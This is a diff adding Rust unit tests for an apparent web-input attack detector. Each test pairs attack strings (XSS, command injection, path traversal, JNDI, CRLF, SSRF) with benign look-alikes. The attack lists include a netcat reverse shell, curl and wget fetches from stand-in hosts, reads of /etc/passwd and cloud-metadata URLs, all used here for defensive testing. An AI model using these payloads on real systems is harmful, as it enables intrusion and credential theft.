@@ -1,0 +1,185 @@
+//! Each detector: attacks next to look-alike legitimate inputs.
+
+use super::Detector;
+use crate::field::FieldKind;
+
+fn check(d: Detector, kind: FieldKind, attacks: &[&str], legit: &[&str]) {
+    for a in attacks {
+        assert!(d.detect(a, kind).is_some(), "{}: missed {a:?}", d.name());
+    }
+    for l in legit {
+        assert_eq!(d.detect(l, kind), None, "{}: flagged {l:?}", d.name());
+    }
+}
+
+#[test]
+fn xss_tags_handlers_urls_and_breakouts() {
+    check(
+        Detector::Xss,
+        FieldKind::QueryValue,
+        &[
+            "<script>alert(1)</script>",
+            "<img src=x onerror=alert(1)>",
+            "<svg/onload=alert(1)>",
+            "<iframe srcdoc='<script>x</script>'>",
+            "<a href=\"jav\tascript:alert(1)\">x</a>",
+            "<object data=\"data:text/html;base64,PHNjcmlwdD4=\">",
+            "\" onmouseover=\"alert(1)",
+            "';alert(1)//",
+            "\"-alert(1)-\"",
+            "javascript:alert(document.cookie)",
+            "<div style=\"width: expression(alert(1))\">",
+            "</title><script>",
+        ],
+        &[
+            "a < b and c > d",
+            "<3",
+            "Tom & Jerry",
+            "**bold** and _italic_ markdown",
+            "<b>bold</b> is fine",
+            "javascript: the good parts",
+            "She said \"on Monday\" and left",
+            "x<y",
+        ],
+    );
+}
+
+#[test]
+fn cmdi_needs_command_position_and_shell_shape() {
+    check(
+        Detector::Cmdi,
+        FieldKind::QueryValue,
+        &[
+            "www.google.com;cat /etc/passwd",
+            "127.0.0.1 && whoami",
+            "x | nc -e /bin/sh 10.0.0.1 4444",
+            "`id`",
+            "$(curl http://evil.example/x.sh)",
+            "a;c'a't /et'c'/pas's'wd",
+            "host;c$@at /etc/passwd",
+            "x;cat${IFS}/etc/passwd",
+            "{cat,/etc/passwd}",
+            "; /bin/sh -i",
+            "cat /etc/passwd",
+            "ls -la /",
+            "x;/???/??t /???/p??s??",
+            "a\nwget http://x.example/s",
+        ],
+        &[
+            "echo in the mirror",
+            "cats & dogs",
+            "R&D",
+            "a hero; more than that",
+            "hello; time he came",
+            "Times & Schedule",
+            "time warner",
+            "Tom & Jerry",
+            "rm",
+            "date - 2020",
+            "C# and F#",
+            "user@example.com",
+        ],
+    );
+}
+
+#[test]
+fn traversal_needs_a_following_segment() {
+    check(
+        Detector::Traversal,
+        FieldKind::QueryValue,
+        &[
+            "../../etc/passwd",
+            "..\\..\\windows\\win.ini",
+            "....//....//etc",
+            "..;/admin",
+            "file=../config",
+        ],
+        &[
+            "how to use ../ in bash",
+            "wait... what",
+            "1..10",
+            "version 2..3",
+            "see the docs..",
+        ],
+    );
+    check(
+        Detector::Traversal,
+        FieldKind::Path,
+        &["/a/../b", "/static/.."],
+        &["/a/b..c/d", "/v1.2/x"],
+    );
+}
+
+#[test]
+fn jndi_sees_through_nested_lookups() {
+    check(
+        Detector::Jndi,
+        FieldKind::HeaderValue,
+        &[
+            "${jndi:ldap://x.example/a}",
+            "${${lower:j}ndi:ldap://x}",
+            "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
+            "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x}",
+            "${ jndi:dns://x}",
+            "${env:AWS_SECRET_ACCESS_KEY}",
+        ],
+        &["${name}", "price: $5 {approx}", "${HOME}/bin"],
+    );
+}
+
+#[test]
+fn crlf_needs_a_header_or_status_line() {
+    check(
+        Detector::Crlf,
+        FieldKind::QueryValue,
+        &[
+            "x\r\nSet-Cookie: a=b",
+            "x\nLocation: http://evil",
+            "a\r\n\r\nHTTP/1.1 200 OK",
+        ],
+        &[
+            "Go to store.\nAt the store, shop.",
+            "line one\nline two",
+            "Note: nothing",
+        ],
+    );
+    check(
+        Detector::CrlfAny,
+        FieldKind::QueryValue,
+        &["a\r\nX-Anything: 1"],
+        &["a\nb c: d"],
+    );
+}
+
+#[test]
+fn ssrf_sees_internal_hosts_in_any_spelling() {
+    check(
+        Detector::Ssrf,
+        FieldKind::QueryValue,
+        &[
+            "http://127.0.0.1/admin",
+            "http://localhost:8080/",
+            "http://169.254.169.254/latest/meta-data/",
+            "http://metadata.google.internal/computeMetadata/v1/",
+            "http://[fd00:ec2::254]/latest",
+            "http://2130706433/",
+            "http://0x7f.1/",
+            "http://127.1/",
+            "http://0177.0.0.1/",
+            "http://[::ffff:127.0.0.1]/",
+            "http://[::1]:80/",
+            "http://google.com@10.0.0.5/",
+            "gopher://example.com:25/_HELO",
+            "http://127.0.0.1.nip.io/",
+            "https://192.168.1.1/",
+        ],
+        &[
+            "https://example.com/page",
+            "http://8.8.8.8/",
+            "https://www.rust-lang.org/learn",
+            "http://[2001:db8::1]/",
+            "http://10.example.com/",
+            "user@example.com",
+        ],
+    );
+}
